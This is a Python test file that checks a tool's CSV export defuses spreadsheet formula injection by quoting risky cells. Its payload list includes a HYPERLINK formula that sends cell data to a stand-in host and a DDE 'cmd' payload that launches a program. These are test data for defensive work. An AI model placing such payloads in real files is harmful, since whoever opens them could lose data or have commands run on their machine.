"""`l2board.safe_text`: text from users' files is shown, never obeyed, also by the spreadsheet that opens a CSV."""

import csv
import io
import math

import pytest
from conftest import installed_script, run_child

from l2board.log_format import tags
from l2board.safe_text import spreadsheet_cell
from l2board.writing.event_writer import EventFileRunWriter

# Cells a spreadsheet would take for formulas (OWASP, CSV Injection), as run folders may be named.
FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "+SUM(1+1)", "-2+3", "@A1",
            "\t=1+2", "\r=1+2", " =1+2", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS + ["-", "@"])
def test_a_text_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value, cell", [("run-1", "run-1"), ("l2-0.01", "l2-0.01"), ("'=1", "'=1"), ("", ""),
                                         (None, ""), (-0.25, -0.25), (3, 3), (0.0, 0.0), (True, "True"),
                                         (float("-inf"), "'-inf"), (float("inf"), "inf"), (float("nan"), "nan")])
def test_other_values_stay_as_they_are_and_numbers_stay_numbers(value, cell):
    assert spreadsheet_cell(value) == cell


def _formula_cells(text):
    """The cells of a CSV that a spreadsheet would evaluate: text beginning with a formula's first character."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            try:
                if math.isfinite(float(cell)):
                    continue  # a number, also when negative
            except ValueError:
                pass
            if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
                found.append(cell)
    return found


def test_compare_writes_no_live_formula_into_a_csv(tmp_path):
    for index, name in enumerate(FORMULAS):
        folder = tmp_path / "runs" / name.replace("/", "∕")
        for sub, gap in (("train", 0.0), ("validation", 0.01 * index)):
            writer = EventFileRunWriter(str(folder / sub))
            for epoch in range(4):
                writer.scalars({"epoch_loss": 1.0 / (epoch + 1) + gap, tags.DATA_LOSS: 1.0 / (epoch + 1) + gap,
                                "epoch_accuracy": 0.5 + 0.1 * epoch - gap}, epoch)
            writer.close()
    result = run_child([installed_script("l2board"), "compare", str(tmp_path / "runs"), "--format", "csv", "-o",
                        str(tmp_path / "report.csv")], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    text = (tmp_path / "report.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS)
    assert _formula_cells(text) == []
    # Shown as they are: the quote is a spreadsheet's "text" mark, the name follows it unchanged.
    assert "'+SUM(1+1)" in [row["name"] for row in rows] and "'@A1" in [row["configuration"] for row in rows]
    assert any(float(row["final_val_data_loss"]) > 0 for row in rows)
